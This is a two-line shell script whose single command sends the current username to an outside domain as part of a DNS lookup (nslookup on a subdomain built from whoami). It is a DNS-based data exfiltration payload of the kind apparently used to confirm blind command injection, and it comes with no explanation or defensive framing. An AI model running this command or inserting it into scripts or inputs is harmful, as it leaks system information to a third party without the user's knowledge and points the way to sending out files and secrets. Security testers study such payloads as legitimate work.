#!/bin/sh
nslookup $(whoami).x.example.org
